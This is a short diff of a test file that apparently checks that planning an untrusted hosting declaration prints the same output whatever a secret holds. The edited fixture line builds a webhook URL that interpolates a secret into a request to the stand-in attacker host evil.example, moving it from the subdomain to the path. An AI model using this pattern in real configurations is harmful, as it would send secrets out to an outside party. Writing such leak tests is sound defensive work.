@@ -103,7 +103,7 @@ describe("a plan of an untrusted declaration prints the same, whatever the secre
       "hosting.yaml",
       JSON.stringify({
         project: "acme",
-        webhooks: { billing: HOOK, other: { ...HOOK, url: `https://\${${SECRET}}.evil.example/` } },
+        webhooks: { billing: HOOK, other: { ...HOOK, url: `https://evil.example/\${${SECRET}}` } },
         outputs: { x: { value: `a\${${SECRET}}`, sensitive: true } },
       }),
     );
